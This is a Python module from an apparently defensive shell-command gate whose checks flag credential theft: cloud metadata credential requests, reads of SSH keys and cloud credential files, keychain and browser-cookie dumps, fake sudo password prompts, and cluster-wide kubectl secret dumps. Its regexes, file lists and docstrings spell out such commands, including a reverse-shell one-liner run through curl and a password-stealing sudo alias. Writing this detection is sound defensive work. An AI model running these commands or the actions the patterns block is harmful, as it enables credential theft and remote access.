"""Shell checks: reading secrets: keys, credential files, history, keychains.

Part of the shell Detector (gate/rules/shell.py), which inherits these methods: each one judges one kind
of simple command and files its findings under the rule ids of gate/rules/shell.py. The vocabulary they
share lives in gate/rules/shell_vocab.py; the policy is read through the Detector's own predicates
(`self.resolve`, `self.protected_target`, `self.secret_path`, ...).
"""

from __future__ import annotations

import fnmatch
import re
from collections.abc import Callable

from gate.effects import program_effects
from gate.model import Risk
from gate.rules.shell_vocab import (
    _DUMPERS,
    _OPENSSL_KEEPS_KEYS,
    _OUTPUT_FLAGS,
    _READERS,
    _SECRET_READERS,
    _SECRET_VAR,
    _last_operand,
    synced_folder,
)
from gate.shell import (
    Command,
    Finding,
    ShellAnalysis,
    analyse,
    display_path,
    resolve_path,
)

__all__ = ["CredentialChecks", "cluster_secrets_dump"]

# A cloud machine's instance metadata service: the link-local address every major cloud answers on (AWS,
# Azure, GCP, Oracle, DigitalOcean: 169.254.169.254; AWS over IPv6: fd00:ec2::254; ECS task roles:
# 169.254.170.2; Alibaba: 100.100.100.200) and GCP's name for it
_METADATA_HOST = re.compile(r"(?:(?:^|[/@\[\s])(?:169\.254\.169\.254|169\.254\.170\.2|fd00:ec2::254|100\.100\.100\.200|"
                            r"metadata\.google\.internal|metadata\.goog)|//metadata)(?:[:/\]\s$?]|$)")
# the paths under it that hand out the machine's cloud credentials (an IAM role's keys, an OAuth token, a
# managed identity's token, GCP service-account tokens)
_METADATA_CREDENTIALS = re.compile(r"security-credentials|/identity/oauth2/token|/service-accounts/[^/\s]*/"
                                   r"(?:token|identity)|/instance/service-accounts|/v2/credentials|"
                                   r"/ram/security-credentials|/identity\b|/opc/v\d/identity|credentials_(?:relative|full)_uri")

# the same credential paths as only a metadata service (or a proxy or emulator in front of one, on any host and
# port: `localhost:1338/latest/meta-data/container/security-credentials`) serves them
_METADATA_CREDENTIAL_PATH = re.compile(r"/latest/meta-data/(?:iam/|container/)?security-credentials|"
                                       r"/latest/meta-data/identity-credentials/|/computemetadata/v1/instance/"
                                       r"service-accounts/[^/\s]*/(?:token|identity)|/metadata/identity/oauth2/token|"
                                       r"/v2/credentials/")
# the variables a container, function or CI job is given to fetch its credentials from (ECS task roles, Lambda
# and App Service managed identities, GitHub's OIDC token): asked for through them, they hand out the keys
_CREDENTIAL_ENDPOINT_VAR = re.compile(r"\$\{?(?:aws_container_credentials_(?:full|relative)_uri|identity_endpoint|"
                                      r"msi_endpoint|actions_id_token_request_url)\b")

# the variables that name a credential file: the federation token of a pod or workload identity (EKS, AKS, GKE),
# a service-account key, the shared credentials file, the kubeconfig
_CREDENTIAL_FILE_VAR = re.compile(r"\$\{?(AWS_WEB_IDENTITY_TOKEN_FILE|AZURE_FEDERATED_TOKEN_FILE|"
                                  r"GOOGLE_APPLICATION_CREDENTIALS|AWS_SHARED_CREDENTIALS_FILE|KUBECONFIG|"
                                  r"CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE)\b\}?", re.I)


# programs a person types a password into: an alias or function under one of these names runs first
_AUTH_PROGRAMS = frozenset({"sudo", "su", "doas", "pkexec", "passwd", "ssh", "ssh-add", "scp", "gpg", "login",
                            "mysql", "psql", "kinit", "git", "security", "op", "bw", "vault", "aws", "az", "gcloud"})
_AUTH_FUNCTION = re.compile(r"(?:^|[\s;&|({])(?:function\s+)?(sudo|su|doas|pkexec|passwd|ssh|ssh-add|gpg|login|kinit)"
                            r"\s*\(\s*\)\s*\{")
_SILENT_READ = re.compile(r"\bread\s+(?:-\w*s\w*|-\w+\s+-\w*s\w*)\b|\bstty\s+-echo\b|\bread\s+-s\b")


_SUBSTITUTION = re.compile(r"\$\(([^()]*)\)|`([^`]*)`")
_EXPANSION = re.compile(r"\$\([^()]*\)|`[^`]*`|\$\{[^}]*\}|\$\w+")


def _dynamic_readings(word: str) -> list[str]:
    """What a word built at run time may name, for the secret-path test: the word with each expansion as one
    unknown name (`/proc/$(pgrep sshd)/environ` → `/proc/x/environ`), and the paths inside a substitution
    whose output becomes the operand (`cat $(ls ~/.ssh/id_*)` reads what `ls ~/.ssh/id_*` lists)."""
    out = [_EXPANSION.sub("x", word)]
    for m in _SUBSTITUTION.finditer(word):
        for t in (m.group(1) or m.group(2) or "").split():
            if "/" in t or t.startswith(("~", ".")):
                out.extend((t, *_glob_readings(t)))
    return out


# The secret files of the folders tools keep them in, by the folder's last parts: what a glob there reaches
# (`cat ~/.aws/*` prints ~/.aws/credentials). "" is the folder a path starts from (`cat .env*`, `cat ~/.*`).
_SECRET_FILES: dict[str, tuple[str, ...]] = {
    ".aws": ("credentials", "config"), ".ssh": ("id_rsa", "id_ed25519", "id_ecdsa", "id_dsa"),
    ".config/gh": ("hosts.yml",), ".docker": ("config.json",), ".kube": ("config",),
    ".config/gcloud": ("credentials.db", "access_tokens.db", "application_default_credentials.json"),
    ".azure": ("accessTokens.json", "msal_token_cache.json"), ".gnupg": ("private-keys-v1.d",),
    ".password-store": (".gpg-id",), ".npmrc": (), "etc": ("shadow", "gshadow", "sudoers", "master.passwd"),
    "~": (".netrc", ".git-credentials", ".pgpass", ".my.cnf", ".env", ".npmrc", ".pypirc"),
    "": (".env", ".env.local", ".env.production", ".netrc", ".git-credentials", ".pgpass", ".npmrc"),
}


def _glob_readings(word: str) -> tuple[str, ...]:
    """The secret files a glob in the last part of a path would hand over (`~/.aws/*` → `~/.aws/credentials`)."""
    if not any(c in word for c in "*?[") or word.startswith("-"):
        return ()
    folder, slash, pattern = word.rpartition("/")
    if not pattern or any(c in folder for c in "*?["):
        return ()
    key = folder.rstrip("/")
    if key in ("~", "") and not (slash and not folder):
        names = _SECRET_FILES[key]
    else:
        parts = key.split("/")
        names = _SECRET_FILES.get("/".join(parts[-2:]), ()) or _SECRET_FILES.get(parts[-1], ())
    # as the shell expands it: a `*` or `?` does not match a leading dot
    return tuple(f"{folder}{slash}{name}" for name in names if fnmatch.fnmatchcase(name, pattern) and
                 (pattern.startswith(".") or not name.startswith(".")))



# the project's own dotenv file, named relative to the working folder (`.env`, `./.env.local`)
_PROJECT_DOTENV = re.compile(r"^(?:\./)?\.env(?:\.[\w-]+)?$")
_SENDS = frozenset({"net", "data-out", "remote", "publish"})
_ENV_LOADERS = frozenset({"export", "eval", "env", "set", "declare", "typeset"})


def _loaded_into_shell(cmd: Command, analysis: ShellAnalysis) -> bool:
    """`source .env` / `. .env`, or `export $(cat .env | xargs)`: the file's variables set in this shell, which
    is where a program run next reads them; nothing leaves the process by that."""
    if any((program_effects(c.name) or frozenset()) & _SENDS for c in analysis.commands):
        return False  # a program on the same line that talks to the network may send what was loaded
    if cmd.name in ("source", "."):
        return True
    return cmd.name in ("cat", "grep", "sed", "egrep") and any(
        c.name in _ENV_LOADERS and any("$(" in a and cmd.span in a for a in c.argv[1:]) for c in analysis.commands)


# where gathered files wait to be taken away: temporary and shared folders, or a hidden file or folder
_STAGING = re.compile(r"^(?:/private)?(?:/var)?/tmp/|^/dev/shm/|^/users/shared/|^/(?:c:/)?users/public/|"
                      r"(?:^|/)\.[^/.][^/]*(?:/[^/]*)?$|/appdata/local/temp/")
# the folders that hold keys and credentials, gathered whole (their files are credential files one by one)
_KEY_FOLDER = re.compile(r"(^|/)\.(aws|ssh|gnupg|password-store|azure|kube)/?$|(^|/)\.local/share/keyrings/?$|"
                         r"(^|/)\.config/gcloud/?$")
_ARCHIVE = re.compile(r"\.(?:zip|tar|tgz|tbz2?|txz|gz|bz2|xz|zst|7z|rar|cpio|dmg)$")
_ARCHIVERS = frozenset({"zip", "tar", "gtar", "bsdtar", "7z", "7za", "7zz", "rar", "ditto", "hdiutil", "cpio"})


def _staged_to(cmd: Command) -> str | None:
    """Where `cmd` puts its output when that is a staging place (`> /tmp/.c`, `zip -r /tmp/w.zip ...`), or None:
    a temporary or shared folder, a hidden file, or a folder a sync client uploads."""
    for op, target in cmd.redirects:
        path = resolve_path(target, cmd.cwd or None)
        if op in (">", ">>", "&>", ">|") and (_STAGING.search(path or target) or synced_folder(path)):
            return target
    if cmd.name in _ARCHIVERS:
        for a in cmd.argv[1:]:
            path = resolve_path(a, cmd.cwd or None) or a.lower()
            if _ARCHIVE.search(path) and (_STAGING.search(path) or synced_folder(path)):
                return a
    return None


# the keychain item a Chromium-family browser encrypts its saved passwords and cookies with ("Chrome Safe Storage",
# account "Chrome"), looked up by service, account or label
_BROWSER_KEY_ITEM = re.compile(r"safe storage|airport network password|(^|\s|-[a-z]*[asld]\s*)['\"]?(chrome|chromium|"
                               r"google chrome|brave|microsoft edge|edge|opera|vivaldi|arc|wi-?fi|airport)['\"]?(\s|$)")


# what of a credential database holds the secret: cookie values, saved passwords, every column, a dump of it all
_SECRET_COLUMNS = re.compile(r"\b(value|encrypted_value|password_value|password|encryptedpassword|encryptedusername|"
                             r"key|item1|item2|a11)\b|select\s+\*|(^|\s)\.(dump|backup|clone|output|once)\b")


# a prompt that asks for a password or a passphrase ("[sudo] password for alice:", "Password:", "Passphrase")
_PASSWORD_PROMPT = re.compile(r"(?i)\[sudo\]|\bpass(?:word|wort|phrase|wd|code)\b|\bpin\b|\bkennwort\b|"
                              r"\bmot de passe\b|\bcontraseña\b|\bsenha\b")
_NETWORK_SENDERS = re.compile(r"(?:^|[\s;&|(])(?:curl|wget|nc|ncat|netcat|socat|ssh|scp|mail|sendmail|telnet)\b|"
                              r"/dev/(?:tcp|udp)/")


def _kept_or_sent(cmd: Command, source: str) -> str | None:
    """"keeps" when a later part of the line writes the variable `read` filled to a file, "sends" when it hands it
    to a network program; None when the value is only used (exported, passed to a login)."""
    names = [a for a in cmd.argv[1:] if not a.startswith("-") and re.fullmatch(r"[A-Za-z_]\w*", a)]
    if not names:
        names = ["REPLY"]
    at = source.find(cmd.span) if cmd.span else -1
    after = source[at + len(cmd.span):] if at >= 0 else source
    for name in names:
        var = re.compile(r"\$\{?" + re.escape(name) + r"\b")
        for line in re.split(r"[;\n]|&&|\|\|", after):
            if not var.search(line):
                continue
            if _NETWORK_SENDERS.search(line):
                return "sends"
            if re.search(r">>?\s*[^\s&>]|\|\s*tee\b", line):
                return "keeps"
    return None


class CredentialChecks:
    """Reading secrets: keys, credential files, history, keychains."""

    def password_trap(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        """An alias or function that stands in for a program people type passwords into and reads input
        without echo (`alias sudo='read -s pw; echo $pw >> /tmp/.p; sudo'`): a fake password prompt."""
        if cmd.name == "alias":
            for a in cmd.argv[1:]:
                name, eq, body = a.partition("=")
                if eq and name.lower() in _AUTH_PROGRAMS and _SILENT_READ.search(body):
                    add(Finding("block.shell.credential-dump", Risk.CRITICAL,
                                f"alias {name} reads a password without echo before running the real {name}: a fake "
                                f"prompt that keeps what is typed{where}", cmd.span))
                    return
        elif cmd.name == "read" and _SILENT_READ.search(cmd.text) and \
                (m := _AUTH_FUNCTION.search(analysis.source)) is not None:
            add(Finding("block.shell.credential-dump", Risk.CRITICAL,
                        f"a function named {m.group(1)} reads a password without echo: a fake prompt that keeps "
                        f"what is typed{where}", cmd.span))
        elif cmd.name == "read" and _SILENT_READ.search(cmd.text) and _PASSWORD_PROMPT.search(analysis.source):
            kept = _kept_or_sent(cmd, analysis.source)
            if kept is not None:
                add(Finding("block.shell.credential-dump", Risk.CRITICAL,
                            f"asks for a password without echo and {kept} what is typed: a fake password prompt"
                            f"{where}", cmd.span))

    def words_from_variable(self, cmd: Command, analysis: ShellAnalysis, where: str,
                            add: Callable[[Finding], None]) -> None:
        """A command line kept in a variable set on the same line and run by its name (`C='curl -Ns
        telnet://host:port'; $C </dev/null | sh | $C`): the shell splits the value into words, so the line runs
        the program the value names with its options. The line is judged again with the value written in place;
        what blocks there blocks here (a shell wired to the network, a download run). Judged once per line."""
        first = next((c for c in analysis.commands if " " in c.argv[0] and (c.redirects or c.name in _SECRET_READERS)),
                     None)
        if first is not cmd or self.depth >= 2:  # type: ignore[attr-defined]
            return
        line = analysis.source
        for name, value in analysis.assignments:
            if " " not in value or not value.strip():
                continue
            line = re.sub(r"\$(?:\{" + re.escape(name) + r"\}|" + re.escape(name) + r"\b)", lambda _m, v=value: v, line,
                          flags=re.IGNORECASE)
        if line == analysis.source:
            return
        self.depth += 1  # type: ignore[attr-defined]
        try:
            found = self.run(analyse(line, cmd.cwd or None))  # type: ignore[attr-defined]
        finally:
            self.depth -= 1  # type: ignore[attr-defined]
        blocking = next((f for f in found if f.rule.startswith("block.")), None)
        if blocking is not None:
            add(Finding(blocking.rule, Risk.CRITICAL, f"runs a command line kept in a variable ({cmd.argv[0][:50]}): "
                        f"{blocking.reason}{where}", cmd.span))

    def cloud_metadata(self, cmd: Command, where: str, add: Callable[[Finding], None]) -> None:
        """A request to the instance metadata service: for its credential paths it reads the machine's cloud
        keys (as a credential file would), otherwise what the machine is and where it runs (recon)."""
        words = " ".join(cmd.words[1:])
        if "$" in words and (var := _CREDENTIAL_ENDPOINT_VAR.search(words)):
            add(Finding("block.shell.credential-read", Risk.CRITICAL,
                        f"{cmd.name} asks the credential endpoint in {var.group(0).upper()} for this container's or "
                        f"function's cloud keys{where}", cmd.span))
            return
        if "169.254." not in words and "metadata" not in words and "fd00:ec2" not in words and \
                "100.100.100.200" not in words and "-credentials" not in words:
            return
        if _METADATA_HOST.search(words) is None:
            if _METADATA_CREDENTIAL_PATH.search(words):
                add(Finding("block.shell.credential-read", Risk.CRITICAL,
                            f"{cmd.name} asks for a metadata service's credential path (the machine's or "
                            f"container's cloud keys){where}", cmd.span))
            return
        if _METADATA_CREDENTIALS.search(words):
            add(Finding("block.shell.credential-read", Risk.CRITICAL,
                        f"{cmd.name} asks the cloud metadata service for this machine's credentials{where}",
                        cmd.span))
        else:
            add(Finding("confirm.shell.recon", Risk.HIGH,
                        f"{cmd.name} reads the cloud metadata service (the machine's identity, network and the "
                        f"way to its credentials){where}", cmd.span))

    def reads_secret(self, cmd: Command) -> str | None:
        """The secret `cmd` reads (display form), if any: a reader over a secret path, `< secret`, env dumps,
        `printenv` of a secret-named variable."""
        for op, target in cmd.redirects:
            if op == "<":
                hit = self.secret_path(cmd, target)
                if hit:
                    return hit
        if (cmd.name in _READERS or cmd.name in ("curl", "wget", "scp", "rsync", "sftp")) and not (
                cmd.name == "openssl" and cmd.words[1:2] and (cmd.words[1] in _OPENSSL_KEEPS_KEYS or (
                    "-pubout" in cmd.words and "-text" not in cmd.words))):  # (only the public half is written)
            # a copy's destination is written, not read (`cp .env.example .env`)
            dest = (_last_operand(cmd) if cmd.name in ("cp", "install", "rsync", "scp") else None)
            query = _query_operand(cmd)
            for i, a in enumerate(cmd.argv[1:], 1):
                if cmd.argv[i - 1] in _OUTPUT_FLAGS or i in (dest, query):
                    continue  # a file it creates (openssl genrsa -out key.pem) is not one it reads, nor a jq filter
                for word in (_dynamic_readings(a) if i in cmd.dynamic else (a, *_glob_readings(a))):
                    hit = self.secret_path(cmd, word.lstrip("@"))
                    if hit:
                        return hit
                    path = resolve_path(word.lstrip("@"), cmd.cwd or None)
                    if path and _AUTH_STATE.match(path):
                        return display_path(path) + " (the system's sign-in state)"
        if cmd.name in ("env", "printenv", "set", "export") and len(cmd.argv) == 1:
            return "the environment (tokens and keys)"
        if cmd.name == "printenv":
            named = next((a for a in cmd.argv[1:] if _SECRET_VAR.search(a)), None)
            if named:
                return f"the environment variable {named}"
        if cmd.name == "history" and not any(w.startswith("-") for w in cmd.words[1:]):
            return "the shell history"
        if cmd.name == "security" and len(cmd.words) > 1 and cmd.words[1] in (
                "find-generic-password", "find-internet-password", "dump-keychain", "export"):
            # (find-certificate prints certificates: public by design)
            return "the keychain"
        if cmd.name == "secret-tool" and len(cmd.words) > 1 and cmd.words[1] in ("lookup", "search"):
            return "the keyring"
        if cmd.name == "gpg" and any(w.startswith("--export-secret") for w in cmd.words):
            return "GPG secret keys"
        return None

    def reads(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        if analysis.assignments and " " in cmd.argv[0]:
            self.words_from_variable(cmd, analysis, where, add)
        if not cmd.redirects and cmd.name not in _SECRET_READERS:
            return  # reads_secret names a secret read through `<`, or by one of these programs only
        if cmd.upstream and cmd.name in _LINE_FILTERS and (keys := _wifi_keys_filtered(cmd, analysis)) is not None:
            add(Finding("confirm.shell.secret-read", Risk.HIGH, f"{cmd.name} picks {keys}{where}", cmd.span))
            return
        if cmd.name in _DUMPERS and (var := next((m for a in cmd.argv[1:] if (m := _CREDENTIAL_FILE_VAR.search(a))),
                                                 None)):
            add(Finding("block.shell.credential-read", Risk.CRITICAL, f"prints the file {var.group(0)} names: the "
                        f"cloud credentials or federation token this machine or pod signs in with{where}", cmd.span))
            return
        secret = self.reads_secret(cmd)
        if secret is None or secret == "the environment (tokens and keys)":
            return
        if secret == "the shell history" and _history_shown(cmd, analysis):
            return  # one's own recent commands looked over on the terminal (`history | tail`, `| grep docker`)
        if _tests_for_match(cmd):
            return  # `grep -q`, `-l`, `-c`: whether a line matches, which files or how many; no line is shown
        if _PROJECT_DOTENV.match(secret) and _loaded_into_shell(cmd, analysis):
            return  # the project's .env loaded into this shell: it stays in the process (sending it on still counts)
        if (self.credential_files.search(secret) or _KEY_FOLDER.search(secret)) and \
                (staged := _staged_to(cmd)) is not None:
            add(Finding("block.shell.credential-read", Risk.CRITICAL, f"{cmd.name} puts what it reads of {secret} "
                        f"into {staged}: a credential store gathered where it is easy to take away{where}",
                        cmd.span))
            return
        if cmd.name in _DUMPERS and self.credential_files.search(secret):
            add(Finding("block.shell.credential-read", Risk.CRITICAL, f"prints {secret}: a private key or "
                        f"credential file (as a file_read of it){where}", cmd.span))
            return
        if cmd.name == "sqlite3" and self.credential_files.search(secret) and \
                _SECRET_COLUMNS.search(" ".join(cmd.words[2:])):
            # a browser's cookie or saved-password database queried for the secrets themselves (cookie values,
            # saved passwords, the whole table or a dump): what a stealer takes (ATT&CK T1539, T1555.003); the list
            # of sites it holds, the history or the bookmarks only ask
            add(Finding("block.shell.credential-read", Risk.CRITICAL, f"{cmd.name} prints the rows of {secret}: "
                        f"a credential store (cookies, saved passwords, keys){where}", cmd.span))
            return
        if secret == "the keychain" and _BROWSER_KEY_ITEM.search(" ".join(cmd.words[2:])):
            add(Finding("block.shell.credential-dump", Risk.CRITICAL, f"security {cmd.words[1]} asks the keychain "
                        f"for a browser's storage key or a saved Wi-Fi password: the key decrypts every password "
                        f"and cookie a browser saved{where}", cmd.span))
            return
        add(Finding("confirm.shell.secret-read", Risk.HIGH if "/" in secret or "key" in secret else Risk.MEDIUM,
                    f"reads {secret}{where}", cmd.span))


# what the sign-in machinery keeps about accounts: PAM modules' state, failed-login counters, the old password
# hashes pam_pwhistory keeps, SSSD's cached credentials, sudo's timestamps, the host's Kerberos keys
# JSON and YAML query tools take their filter as the first operand (`jq '.config.Env' f.json`): a query, not a file,
# unless the filter is read from a file (-f, --from-file)
_QUERY_TOOLS = frozenset({"jq", "gojq", "jaq", "yq", "xq"})
# (the options that take values before the filter: `--arg NAME VALUE` two, `--indent N` one)
_QUERY_VALUES = {"--arg": 2, "--argjson": 2, "--slurpfile": 2, "--rawfile": 2, "--indent": 1, "-L": 1}


def _query_operand(cmd: Command) -> int | None:
    """The index of a query tool's filter among its arguments, if it has one on the line."""
    if cmd.name not in _QUERY_TOOLS or any(a in ("-f", "--from-file") for a in cmd.argv[1:]):
        return None
    skip = 0
    for i, a in enumerate(cmd.argv[1:], 1):
        if skip:
            skip -= 1
        elif a in _QUERY_VALUES:
            skip = _QUERY_VALUES[a]
        elif not a.startswith("-"):
            return i
    return None


_AUTH_STATE = re.compile(r"^/(?:var/lib/pam|var/run/faillock|run/faillock|var/lib/sss/(?:db|secrets)|"
                         r"var/(?:lib|db|run)/sudo/(?:ts|lectured)|var/lib/pam_\w+)(?:/|$)|"
                         r"^/etc/security/opasswd$|^/var/log/(?:tallylog|faillog)$|^/etc/krb5\.keytab$")


# searchers that can only answer whether a file has a matching line (quiet), which files do, or how many lines
_MATCH_TESTERS = frozenset({"grep", "egrep", "fgrep", "zgrep", "zegrep", "zfgrep", "rg", "ugrep", "ag"})
_TEST_LONG = frozenset({"--quiet", "--silent", "--files-with-matches", "--files-without-match", "--count",
                        "--count-matches"})
_TEST_SHORT = frozenset("qlLc")
_VALUE_SHORT = frozenset("efmABCdDgtTM")  # short flags whose value follows them: the letters after are the value
_PRINTS_TOO = frozenset({"-o", "--only-matching", "--passthru", "--json", "--vimgrep", "-r", "--replace"})


def _tests_for_match(cmd: Command) -> bool:
    """Whether a search only tests for a match: `grep -q` prints nothing, `-l` file names, `-c` counts."""
    if cmd.name not in _MATCH_TESTERS:
        return False
    found = False
    for a in cmd.argv[1:]:
        if a == "--":
            break
        if a.startswith("--"):
            found |= a.split("=", 1)[0] in _TEST_LONG
        elif a.startswith("-") and len(a) > 1:
            for ch in a[1:]:
                if ch in _VALUE_SHORT:
                    break
                found |= ch in _TEST_SHORT
    return found and not (cmd.name in ("rg", "ag") and _PRINTS_TOO.intersection(cmd.argv[1:]))


# programs that pick lines out of another's output
_LINE_FILTERS = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ugrep", "awk", "gawk", "sed", "cut", "select-string",
                           "sls", "findstr"})
# the names saved Wi-Fi and VPN keys are printed under (NetworkManager's settings, wpa_supplicant's fields)
_WIFI_KEY_WORDS = re.compile(r"psk|passw|wep[-_]?key|secrets?\b|pre-?shared|sae_password|leap-password")
_CONNECTION_SHOW = re.compile(r"(^|\s)(c|con|conn|connection)\s+(s|sh|show)\b")


def _wifi_keys_filtered(cmd: Command, analysis: ShellAnalysis) -> str | None:
    """`nmcli connection show NAME | grep psk`: a network manager's saved connection printed and its key lines
    picked out: the saved Wi-Fi (or VPN) password, asked for by name; None for any other filter."""
    if not _WIFI_KEY_WORDS.search(" ".join(cmd.words[1:])):
        return None
    for i in cmd.upstream:
        producer = analysis.commands[i]
        words = " ".join(producer.words[1:])
        if producer.name == "nmcli" and _CONNECTION_SHOW.search(words):
            return "the saved Wi-Fi and VPN passwords out of nmcli's connection settings"
        if producer.name == "wpa_cli" and ("get_network" in words or "dump" in words):
            return "the saved Wi-Fi keys out of the supplicant's networks"
    return None


# programs that only show, page, filter or count lines on the terminal
_SHOWN_BY = frozenset({"tail", "head", "grep", "egrep", "fgrep", "rg", "less", "more", "most", "sort", "uniq", "wc",
                       "cut", "nl", "column", "fzf", "tac", "select-string", "sls", "select-object", "select",
                       "format-table", "ft", "out-host", "measure-object"})
# a filter that hunts the history for what was typed with a secret in it, not for a command one ran
_SECRET_HUNT = re.compile(r"token|secret|pass|pwd|key|auth|cred|bearer|login|sshpass|mysql|psql|mongo|redis|"
                          r"export|aws|gcloud|az\b|vault|curl|wget|-u\b|-p\b", re.IGNORECASE)


def _history_shown(cmd: Command, analysis: ShellAnalysis) -> bool:
    """`history | tail -20`, `history | grep docker`: a few lines of the person's own shell history looked over on
    the terminal, nothing written, sent or searched for secrets."""
    if cmd.redirects or cmd.subst or cmd.via:
        return False
    cmds = analysis.commands
    at = next((i for i, c in enumerate(cmds) if c is cmd), None)
    if at is None:
        return False
    if not any(at in c.upstream for c in cmds):
        return False  # the whole history printed (every line of it, secrets typed on a command line among them)
    reached, frontier = {at}, [at]
    while frontier:
        i = frontier.pop()
        for k, c in enumerate(cmds):
            if i in c.upstream and k not in reached:
                if c.name not in _SHOWN_BY or c.redirects or c.subst or \
                        (c.name in ("grep", "egrep", "fgrep", "rg", "select-string", "sls") and
                         _SECRET_HUNT.search(" ".join(c.argv[1:]))):
                    return False
                reached.add(k)
                frontier.append(k)
    return True


# kubectl's options that take a value (the word after them is not a resource name)
_KUBE_VALUED = frozenset({"-n", "--namespace", "-o", "--output", "-l", "--selector", "--context", "--kubeconfig",
                          "--field-selector", "--cluster", "--user", "-c", "--template", "--sort-by"})
_KUBE_DATA_OUT = re.compile(r"^(json|yaml|jsonpath.*\b(data|items)\b.*|go-template.*\bdata\b.*|"
                            r"custom-columns.*data.*)$", re.I)


def cluster_secrets_dump(cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
    """Every secret of every namespace, or of the system namespace, printed with its values (`kubectl get secrets
    -A -o json`, `kubectl -n kube-system get secret -o jsonpath='{.items[*].data.token}'`), or every secret of a
    namespace printed and decoded on the same line: the cluster's service-account tokens and passwords harvested at
    once (ATT&CK T1552.007; `block.shell.credential-dump`). One named secret, or a namespace's secrets saved as a
    file, asks."""
    words = list(cmd.words[1:])
    plain = [w for k, w in enumerate(words) if not w.startswith("-") and (k == 0 or words[k - 1] not in _KUBE_VALUED)]
    if plain[:1] != ["get"] or len(plain) < 2 or plain[1] not in ("secret", "secrets", "secret/", "secrets/"):
        return
    if len(plain) > 2:
        return  # one secret, or a few, by name
    output = next((words[k + 1] for k, w in enumerate(words[:-1]) if w in ("-o", "--output")), None) or \
        next((w.split("=", 1)[1] for w in words if w.startswith(("-o=", "--output="))), None) or \
        next((w[2:] for w in words if w.startswith("-o") and len(w) > 2 and not w.startswith("-o=")), "")
    if not _KUBE_DATA_OUT.match(output.strip("'\"")):
        return
    namespaces = [words[k + 1] for k, w in enumerate(words[:-1]) if w in ("-n", "--namespace")] + \
        [w.split("=", 1)[1] for w in words if w.startswith("--namespace=")]
    everywhere = "-a" in words or "--all-namespaces" in words or any(n in ("kube-system", "openshift-config")
                                                                   for n in namespaces)
    me = analysis.commands.index(cmd) if cmd in analysis.commands else -1
    decoded = any(me in c.upstream and c.name in ("base64", "base32") and any(w in ("-d", "--decode", "-D")
                                                                               for w in c.words[1:])
                  for c in analysis.commands)
    if everywhere or decoded:
        add(Finding("block.shell.credential-dump", Risk.CRITICAL,
                    f"{cmd.name} prints every secret {'of the cluster' if everywhere else 'of the namespace'} with "
                    f"its value{' and decodes them' if decoded else ''}{where}", cmd.span))
